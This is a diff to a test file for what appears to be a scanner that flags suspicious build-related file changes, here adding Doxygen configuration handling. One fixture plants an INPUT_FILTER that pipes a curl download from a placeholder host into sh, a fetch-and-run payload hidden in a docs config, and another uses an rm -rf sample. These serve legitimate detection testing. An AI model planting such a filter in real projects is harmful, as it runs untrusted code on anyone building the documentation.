@@ -55,6 +55,9 @@ describe('file roles and their weight', () => {
     expect(fileRole('lib/demo.pc.in', 0o644, 'Name: demo\n')).toBe('build')
     expect(fileRole('contrib/redhat/tool.spec', 0o644, 'Name: tool\n%build\nmake\n')).toBe('build')
     expect(fileRole('tests/data/sample.pc', 0o644, 'Name: sample\n')).toBe('data')
+    // a Doxygen configuration: building the documentation runs the commands it names
+    for (const name of ['Doxyfile', 'doc/Doxyfile.in', 'doc/Doxyfile-internals.in', 'docs/api.doxyfile', 'Doxyfile.cmake.in']) expect(fileRole(name, 0o644, 'PROJECT_NAME = x\n'), name).toBe('build')
+    expect(fileRole('doc/Doxyfile.bak', 0o644, 'PROJECT_NAME = x\n')).toBe('data')
     // content wins over the name: a "document" that is a shell script is build logic
     expect(fileRole('doc/notes.txt', 0o644, '#!/bin/sh\nrm -rf /nonexistent\n')).toBe('build')
   })
@@ -106,6 +109,11 @@ describe('file roles and their weight', () => {
     const added_ = await judgeUnexplained(added('packaging/demo.spec', spec), view({ 'packaging/demo.spec': spec }), new Map())
     expect(added_?.findings?.[0]?.severity).toBe('high')
     expect(added_?.findings?.[0]?.message).toMatch(/RPM spec/)
+    const doxyfile = 'PROJECT_NAME = demo\nINPUT = src\n'
+    const filtered = `${doxyfile}INPUT_FILTER = "sh -c 'curl -s http://x.invalid/f | sh'"\n`
+    const doxygen = await judgeUnexplained(changed('doc/Doxyfile.in', doxyfile, filtered), view({ 'doc/Doxyfile.in': filtered }, { 'doc/Doxyfile.in': doxyfile }), new Map())
+    expect(doxygen?.findings?.[0]?.severity).toBe('high')
+    expect(doxygen?.findings?.[0]?.message).toMatch(/Doxygen configuration .*INPUT_FILTER/)
   })
 
   it('makes a document critical when the build runs it (a build has no reason to), and names the line', async () => {
